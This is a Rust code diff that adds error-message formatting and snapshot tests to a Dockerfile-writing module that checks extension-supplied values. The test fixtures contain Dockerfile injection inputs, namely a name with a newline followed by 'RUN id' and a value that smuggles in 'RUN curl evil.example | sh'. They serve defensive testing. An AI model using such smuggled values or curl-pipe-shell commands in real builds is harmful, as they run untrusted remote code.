@@ -14,6 +14,7 @@
 
 use crate::image_ref::ImageReference;
 use crate::untrusted::quoted;
+use cnb_output::HeaderAndBody;
 use std::fmt;
 use std::marker::PhantomData;
 
@@ -80,6 +81,26 @@ impl fmt::Display for DockerfileError {
 }
 
 impl std::error::Error for DockerfileError {}
+
+/// As an extension's error: what was rejected, then why.
+impl HeaderAndBody for DockerfileError {
+    fn header(&self) -> String {
+        match self {
+            Self::InvalidName { what, .. } | Self::InvalidPath { what, .. } => {
+                format!("Invalid {what} for the Dockerfile")
+            }
+            Self::UnsafeValue { what, .. } => format!("Unsafe {what} for the Dockerfile"),
+        }
+    }
+
+    fn body(&self) -> String {
+        format!(
+            "{self}.\nEvery value an extension writes into a Dockerfile is checked, so that none \
+             can add an instruction: fix the value where it comes from, or report this to the \
+             extension's authors if it comes from the extension itself."
+        )
+    }
+}
 
 const IDENTIFIER: &str = "a letter or '_' followed by letters, digits or '_'";
 
@@ -790,5 +811,37 @@ mod tests {
         let rendered = run.to_string();
         assert!(rendered.starts_with("ARG base_image\nFROM ${base_image}\n"));
         assert!(rendered.ends_with("LABEL io.buildpacks.rebasable=true\n"));
+    }
+
+    /// Every error as an extension shows it, one snapshot per variant (`src/snapshots/`).
+    #[test]
+    fn messages() {
+        let errors = [
+            (
+                "invalid_name",
+                DockerfileError::InvalidName {
+                    what: "ENV name",
+                    name: "NODE VERSION=1\nRUN id".to_string(),
+                    expected: IDENTIFIER,
+                },
+            ),
+            (
+                "unsafe_value",
+                DockerfileError::UnsafeValue {
+                    what: "RUN argument",
+                    value: format!("20\nRUN curl evil.example | sh #{}", "x".repeat(100)),
+                },
+            ),
+            (
+                "invalid_path",
+                DockerfileError::InvalidPath {
+                    what: "COPY destination",
+                    path: "/usr/share/$HOME".to_string(),
+                },
+            ),
+        ];
+        for (name, error) in errors {
+            insta::assert_snapshot!(name, cnb_output::render_error(&error));
+        }
     }
 }
